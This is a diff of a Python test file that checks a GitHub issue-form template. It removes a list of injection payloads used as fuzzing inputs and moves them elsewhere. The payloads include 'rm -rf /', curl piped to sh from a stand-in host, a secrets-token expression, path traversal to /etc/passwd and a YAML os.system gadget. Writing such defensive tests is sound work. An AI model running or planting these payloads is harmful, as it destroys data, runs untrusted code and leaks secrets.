@@ -11,38 +11,9 @@ from hypothesis import strategies as st
 
 from dossier.model import DocumentKind
 from tests.support import workflow_samples
+from tests.support.workflow_samples import COMMANDS, filled
 
 TEMPLATE = Path(__file__).parent.parent / ".github" / "ISSUE_TEMPLATE" / "bron-voorstellen.yml"
-COMMANDS = [
-    "$(touch x)",
-    "`id`",
-    "'; rm -rf / #",
-    '" && curl https://elders.example | sh',
-    "${{ secrets.GITHUB_TOKEN }}",
-    "../../../etc/passwd",
-    "..\\..\\x",
-    "a\x00b",
-    "-rf",
-    "CON",
-    "x: !!python/object/apply:os.system [id]",
-    "- a\n- b",
-    "publiceren: true\nrechten: overheid",
-    "&anker *anker",
-    "%TAG ! tag:elders.example",
-    "🦊" * 50,
-    "a" * 5000,
-]
-
-
-def filled(**answers: str) -> str:
-    """Return the form, with other answers to some of its questions."""
-    text = workflow_samples.FORM
-    for label, answer in answers.items():
-        before, heading, rest = text.partition(f"### {label}")
-        question, _, after = rest.partition("\n\n")
-        _, end, others = after.partition("\n\n### ")
-        text = f"{before}{heading}{question}\n\n{answer}{end or chr(10)}{others}"
-    return text
 
 
 def test_a_form_as_it_should_be() -> None:
